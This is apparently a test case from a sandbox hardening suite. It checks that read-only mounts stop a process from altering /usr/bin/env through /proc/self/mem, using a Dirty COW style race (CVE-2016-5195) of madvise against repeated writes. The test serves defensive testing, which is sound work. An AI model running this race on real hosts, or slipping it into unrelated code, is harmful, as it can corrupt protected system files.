/* SPDX-License-Identifier: LGPL-2.1-or-later
 *
 * Attack: writes to a read-only file of the host's by way of its own memory
 * Barrier: read-only-mounts
 * Verdict: runtime-error
 * Trace: host-file */
#include "attack.h"
#include <sys/mman.h>
#include <sys/stat.h>

/* /proc/self/mem may write where the memory itself is read-only: that must not reach the file below. */
ATTACK(self_mem) {
        int file, memory;
        ssize_t shared;
        char *p, *q;

        file = open("/usr/bin/env", O_RDONLY);
        memory = open("/proc/self/mem", O_RDWR);
        if (file < 0 || memory < 0)
                return broken("open");
        p = mmap(NULL, 4096, PROT_READ, MAP_SHARED, file, 0);
        q = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
        if (p == MAP_FAILED || q == MAP_FAILED)
                return broken("mmap");

        shared = pwrite(memory, "x", 1, (off_t) (uintptr_t) p);
        (void) tried("shared", shared);

        /* As in CVE-2016-5195: the private copy is thrown away while it is written to. */
        if (fork() == 0)
                for (;;)
                        (void) madvise(q, 4096, MADV_DONTNEED);
        for (int i = 0; i < 2000; i++)
                (void) !pwrite(memory, "x", 1, (off_t) (uintptr_t) q);

        return outcome(p[0] == 'x');
}
